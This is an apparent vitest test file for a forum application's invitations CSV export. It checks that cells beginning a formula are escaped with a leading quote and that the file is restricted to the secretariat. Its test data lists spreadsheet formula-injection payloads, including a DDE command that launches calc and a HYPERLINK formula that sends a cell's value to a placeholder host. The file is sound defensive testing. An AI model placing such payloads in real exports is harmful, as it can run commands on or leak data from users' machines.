import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { forum, openTarget, type Target } from './adapter.ts';

// What is written to be reckoned with by a spreadsheet, against the list of invitations as a file.
const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', "=cmd|' /C calc'!A0", '=HYPERLINK("https://canary.invalid?x="&A1,"here")', '＝1+1', '＋1', '－1', '＠SUM(1)', '|calc', '%0A=1+1', '   =1+1'];

let target: Target;
let organiser = '';
beforeAll(async () => {
  target = await openTarget();
  organiser = await target.signIn('weiss');
});
afterAll(() => target?.program.stop());

describe('the list of invitations as a file', () => {
  it('holds what was sent, and not one cell that begins a formula', async () => {
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const lines = formulas.map((text, i) => `${quoted(text)};experts;;formula${i}@example.org;${quoted(text)};participant;en`).join('\n');
    const checked = await target.send(`${forum}/run/invitations`, { step: 'check', lines }, organiser);
    expect(checked.status).toBe(200);
    const hidden = (name: string) => new RegExp(`name="${name}" value="([^"]+)"`).exec(checked.text)?.[1] ?? '';
    const sent = await target.send(`${forum}/run/invitations`, { step: 'send', lines, checked: hidden('checked'), submissionId: hidden('submissionId') }, organiser);
    expect(sent.text).toContain(`${formulas.length} invitations are on their way`);
    const { status, headers, text } = await target.raw({ path: `${forum}/run/invitations.csv`, headers: { cookie: organiser } });
    expect([status, headers['content-type'], headers['x-content-type-options'], headers['cache-control']]).toEqual([200, 'text/csv; charset=utf-8', 'nosniff', 'no-store']);
    expect(headers['content-disposition']).toBe('attachment; filename="invitations-internet-2012-2.csv"');
    const rows = parse(text, { bom: true }) as string[][];
    for (const i of formulas.keys()) {
      const row = rows.find((cells) => cells.includes(`formula${i}@example.org`));
      expect([row?.[0], row?.[3]], formulas[i]).toEqual([`'${formulas[i]}`, `'${formulas[i]}`]);
    }
    for (const cell of rows.flat()) expect(cell, 'a cell').not.toMatch(/^[\s]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/);
  });

  it('is there for the secretariat alone', async () => {
    for (const cookie of ['', await target.signIn('halden')]) {
      const status = async (path: string) => (await target.raw({ path, headers: cookie ? { cookie } : {} })).status;
      expect(await status(`${forum}/run/invitations.csv`)).toBe(await status('/en/f/nowhere-7/mod'));
    }
  });
});
